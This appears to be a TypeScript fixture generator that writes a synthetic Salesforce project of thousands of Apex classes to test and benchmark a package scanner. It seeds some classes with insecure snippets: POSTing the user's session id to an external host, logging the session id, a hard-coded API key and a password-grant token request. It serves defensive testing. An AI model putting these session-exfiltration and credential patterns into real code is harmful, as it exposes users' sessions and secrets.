import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';

/** How many classes a synthetic package has, and how many of them have something that `check-package` checks. */
export const synthetic = { classes: 5000, matter: 50 };

const folder = 'force-app/main/default';

/** Numbers that look like chance and are the same on every machine (mulberry32). */
const chance = (seed: number): (() => number) => {
  let state = seed;
  return () => {
    state = (state + 1_831_565_813) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32;
  };
};
type Chance = ReturnType<typeof chance>;

const one = <T>(of: readonly [T, ...T[]], random: Chance): T => of[Math.floor(random() * of.length)] ?? of[0];
const letters = (length: number, random: Chance): string =>
  Array.from(
    { length },
    () => 'abcdefghijkmnpqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789'[Math.floor(random() * 56)]
  ).join('');

const things = ['Invoice', 'Order', 'Payment', 'Shipment', 'Contract', 'Ledger', 'Quote', 'Asset', 'Visit'] as const;
const fields = ['Status__c', 'Amount__c', 'Region__c', 'External_Key__c', 'Due_Date__c', 'Owner_Name__c'] as const;

/** Methods of the kinds that most classes consist of. Words such as `key` and `token` come up as they do in real code. */
const methods: ReadonlyArray<(name: string, thing: string, field: string) => string> = [
  (name, thing, field) => `    /**
     * @description Finds what is open, newest first.
     * @param ids the records around which to look
     * @return the records by their ${field}
     */
    public Map<String, List<${thing}__c>> find${name}(Set<Id> ids) {
        Map<String, List<${thing}__c>> found = new Map<String, List<${thing}__c>>();
        for (${thing}__c record : [SELECT Id, Name, ${field}, CreatedDate FROM ${thing}__c WHERE Id IN :ids AND ${field} != null ORDER BY CreatedDate DESC LIMIT 2000]) {
            String key = record.${field} == null ? 'none' : String.valueOf(record.${field});
            if (!found.containsKey(key)) {
                found.put(key, new List<${thing}__c>());
            }
            found.get(key).add(record);
        }
        return found;
    }
`,
  (name, thing, field) => `    // Rounds once, at the end: every line by itself would add up to another sum.
    private Decimal total${name}(List<${thing}__c> records, Decimal rate) {
        Decimal sum = 0;
        Integer count = 0;
        for (${thing}__c record : records) {
            if (record.Amount__c > 0 && record.${field} != null) {
                sum += record.Amount__c * (1 + rate / 100);
                count++;
            } else if (record.Amount__c < 0) {
                sum -= Math.abs(record.Amount__c);
            }
        }
        return count == 0 ? 0 : sum.setScale(2, System.RoundingMode.HALF_UP);
    }
`,
  (name, thing, field) => `    public void update${name}(Map<Id, ${thing}__c> before, List<${thing}__c> records) {
        List<${thing}__c> changed = new List<${thing}__c>();
        for (${thing}__c record : records) {
            ${thing}__c old = before.get(record.Id);
            if (old == null || old.${field} != record.${field}) {
                record.Last_Message__c = String.format('{0} changed from {1}', new List<Object>{ record.Name, old?.${field} });
                changed.add(record);
            }
        }
        if (!changed.isEmpty() && Schema.sObjectType.${thing}__c.isUpdateable()) {
            try {
                update changed;
            } catch (DmlException problem) {
                throw new ServiceException('Could not store ' + changed.size() + ' records: ' + problem.getMessage());
            }
        }
    }
`,
  (name, thing) => `    @TestVisible
    private String describe${name}(${thing}__c record, Boolean isLong) {
        List<String> parts = new List<String>{ record.Name };
        switch on record.Status__c {
            when 'Open', 'Waiting' {
                parts.add('is still open');
            }
            when 'Closed' {
                parts.add('was closed on ' + record.Due_Date__c.format());
            }
            when else {
                parts.add('has the state ' + record.Status__c);
            }
        }
        if (isLong) {
            parts.add('https://www.acme-supplies.com/help/' + EncodingUtil.urlEncode(record.Name, 'UTF-8'));
        }
        return String.join(parts, ' ');
    }
`,
];

/** What makes a class matter: one line or a few in a method of it, by turns. */
const reasons: ReadonlyArray<(random: Chance) => string> = [
  () => `        HttpRequest request = new HttpRequest();
        request.setEndpoint(URL.getOrgDomainUrl().toExternalForm() + '/services/data/v62.0/tooling/query?q=SELECT+Id+FROM+ApexClass');
        request.setHeader('Authorization', 'Bearer ' + UserInfo.getSessionId());
        new Http().send(request);`,
  () => `        HttpRequest request = new HttpRequest();
        request.setEndpoint('https://collect.acme-supplies.com/login');
        request.setMethod('POST');
        request.setBody('session=' + UserInfo.getSessionId());
        new Http().send(request);`,
  () => `        String session = UserInfo.getSessionId();
        insert new Log__c(Text__c = session);`,
  (random) => `        String apiKey = '${letters(40, random)}';
        HttpRequest request = new HttpRequest();
        request.setHeader('X-Api-Key', apiKey);`,
  () => `        HttpRequest request = new HttpRequest();
        request.setEndpoint('https://login.salesforce.com/services/oauth2/token');
        request.setBody('grant_type=password&username=' + user + '&password=' + word);
        new Http().send(request);`,
];

const metaXml = (type: string, lines: string): string => `<?xml version="1.0" encoding="UTF-8"?>
<${type} xmlns="http://soap.sforce.com/2006/04/metadata">
${lines}
</${type}>
`;
const classMeta = metaXml('ApexClass', '    <apiVersion>62.0</apiVersion>\n    <status>Active</status>');

const syntheticClass = (index: number, random: Chance, reason: string | undefined): string => {
  const thing = one(things, random);
  const parts: string[] = [];
  let length = 0;
  for (let count = 0; length < 11_800; count += 1) {
    const method = (methods[Math.floor(random() * methods.length)] ?? String)(
      `${one(things, random)}${count}`,
      thing,
      one(fields, random)
    );
    parts.push(method);
    length += method.length;
  }
  const hidden =
    reason === undefined ? [] : [`    private void exchange(String user, String word) {\n${reason}\n    }\n`];
  return [
    `/**\n * @description Service for ${thing} records, part ${index}.\n */`,
    `public with sharing class ${nameOf(index)} {`,
    '    public class ServiceException extends Exception {}\n',
    `    private static final Integer BATCH_SIZE = ${100 + Math.floor(random() * 100)};\n`,
    ...parts.slice(0, 3),
    ...hidden,
    ...parts.slice(3),
    '}\n',
  ].join('\n');
};

const nameOf = (index: number): string => `Service${String(index).padStart(4, '0')}`;

const connectedApp = (index: number): string =>
  metaXml(
    'ConnectedApp',
    `    <contactEmail>security@acme-supplies.com</contactEmail>
    <label>Acme ${index}</label>
    <oauthConfig>
        <callbackUrl>https://app${index}.acme-supplies.com/oauth/callback</callbackUrl>
        <consumerKey>AcmeSuppliesConsumer${index}</consumerKey>
        <isAdminApproved>true</isAdminApproved>
        <isPkceRequired>true</isPkceRequired>
        <scopes>Api</scopes>
        <scopes>RefreshToken</scopes>
    </oauthConfig>
    <oauthPolicy>
        <ipRelaxation>ENFORCE</ipRelaxation>
        <refreshTokenPolicy>specific_inactivity:30:DAYS</refreshTokenPolicy>
    </oauthPolicy>`
  );

const project = JSON.stringify({
  packageDirectories: [{ path: 'force-app', package: 'Synthetic', default: true }],
  sourceApiVersion: '62.0',
});

/** Files by path. Made one at a time, so that sixty megabytes are never in memory together. */
type Files = Iterable<readonly [path: string, text: string]>;

const around = function* (): Files {
  yield ['sfdx-project.json', project];
  for (let index = 1; index <= 3; index += 1) {
    yield [`${folder}/connectedApps/Acme${index}.connectedApp-meta.xml`, connectedApp(index)];
  }
};

/** Five thousand classes, sixty megabytes, of which one in a hundred matters. */
export const syntheticPackage = function* (): Files {
  const random = chance(20_260_101);
  yield* around();
  const every = synthetic.classes / synthetic.matter;
  for (let index = 0; index < synthetic.classes; index += 1) {
    const turn = reasons[(index / every) % reasons.length];
    const text = syntheticClass(index, random, index % every === 0 ? turn?.(random) : undefined);
    yield [`${folder}/classes/${nameOf(index)}.cls`, text];
    yield [`${folder}/classes/${nameOf(index)}.cls-meta.xml`, classMeta];
  }
};

/** The same project without its classes: what every run costs whatever the package contains. */
export const emptyPackage = around;

/** A project whose one class is as WSDL2Apex makes it, a megabyte of it, with a session id in its stub. */
export const generatedPackage = function* (): Files {
  yield* around();
  yield [`${folder}/classes/MetadataService.cls`, generatedClass(1_000_000)];
  yield [`${folder}/classes/MetadataService.cls-meta.xml`, classMeta];
};

const soap = 'http://soap.sforce.com/2006/04/metadata';

/** A class as WSDL2Apex generates them for the Metadata API, of at least so many characters. */
export const generatedClass = (atLeast: number): string => {
  const types: string[] = [];
  for (let length = 0; length < atLeast; length += types.at(-1)?.length ?? 0) types.push(generatedType(types.length));
  return [
    '//Generated by wsdl2apex\n',
    'public class MetadataService {',
    ...types,
    `    public class SessionHeader_element {
        public String sessionId;
        private String[] sessionId_type_info = new String[]{'sessionId','${soap}',null,'1','1','false'};
        private String[] apex_schema_type_info = new String[]{'${soap}','true','false'};
        private String[] field_order_type_info = new String[]{'sessionId'};
    }`,
    `    public class MetadataPort {
        public String endpoint_x = URL.getSalesforceBaseUrl().toExternalForm() + '/services/Soap/m/42.0';
        public Map<String,String> inputHttpHeaders_x;
        public Integer timeout_x;
        public MetadataService.SessionHeader_element SessionHeader;
        private String SessionHeader_hns = 'SessionHeader=${soap}';
        private String[] ns_map_type_info = new String[]{'${soap}', 'MetadataService'};
        public MetadataPort() {
            SessionHeader = new MetadataService.SessionHeader_element();
            SessionHeader.sessionId = UserInfo.getSessionId();
        }
${Array.from({ length: 25 }, (_, index) => generatedCall(index)).join('\n')}
    }`,
    '}\n',
  ].join('\n');
};

const generatedType = (index: number): string => {
  const names = Array.from({ length: 4 + (index % 9) }, (_, at) => `${one(things, chance(index * 31 + at))}${at}`);
  return [
    `    public class Type${index} {`,
    ...names.map((name) => `        public String ${name.toLowerCase()};`),
    ...names.map(
      (name) =>
        `        private String[] ${name.toLowerCase()}_type_info = new String[]{'${name.toLowerCase()}','${soap}',null,'0','1','false'};`
    ),
    `        private String[] apex_schema_type_info = new String[]{'${soap}','true','false'};`,
    `        private String[] field_order_type_info = new String[]{${names.map((name) => `'${name.toLowerCase()}'`).join(',')}};`,
    '    }',
  ].join('\n');
};

const generatedCall = (
  index: number
): string => `        public MetadataService.Type${index}[] call${index}(String type_x, String[] fullNames) {
            MetadataService.Type${index} request_x = new MetadataService.Type${index}();
            MetadataService.Type${index + 1} response_x;
            Map<String, MetadataService.Type${index + 1}> response_map_x = new Map<String, MetadataService.Type${index + 1}>();
            response_map_x.put('response_x', response_x);
            WebServiceCallout.invoke(
              this,
              request_x,
              response_map_x,
              new String[]{endpoint_x,
              '',
              '${soap}',
              'call${index}',
              '${soap}',
              'call${index}Response',
              'MetadataService.Type${index + 1}'}
            );
            response_x = response_map_x.get('response_x');
            return response_x.result;
        }`;

/** Writes files into an empty folder, and counts them. */
export const writeFiles = (root: string, files: Files): { files: number; bytes: number } => {
  rmSync(root, { recursive: true, force: true });
  const made = new Set<string>();
  let [count, bytes] = [0, 0];
  for (const [path, text] of files) {
    const at = join(root, path);
    const holder = dirname(at);
    if (!made.has(holder)) mkdirSync(holder, { recursive: true });
    made.add(holder);
    writeFileSync(at, text);
    count += 1;
    bytes += Buffer.byteLength(text);
  }
  return { files: count, bytes };
};
